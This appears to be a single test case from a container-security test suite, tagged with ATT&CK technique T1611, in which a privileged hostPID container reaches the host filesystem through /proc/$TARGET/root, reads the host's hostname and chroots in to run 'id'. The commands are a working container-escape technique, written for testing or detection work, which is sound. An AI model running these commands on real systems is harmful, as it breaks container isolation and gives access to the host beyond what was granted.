# category: container-escape
# technique: T1611
# art: no
# expect: proc-root-access
# opts: --hostpid --privileged
# setup: hostproc
# desc: a hostPID container reaches the host filesystem through /proc/PID/root of a host process and chroots into it
ls "/proc/$TARGET/root/" >/dev/null
cat "/proc/$TARGET/root/etc/hostname"
chroot "/proc/$TARGET/root" /bin/sh -c 'id' || true
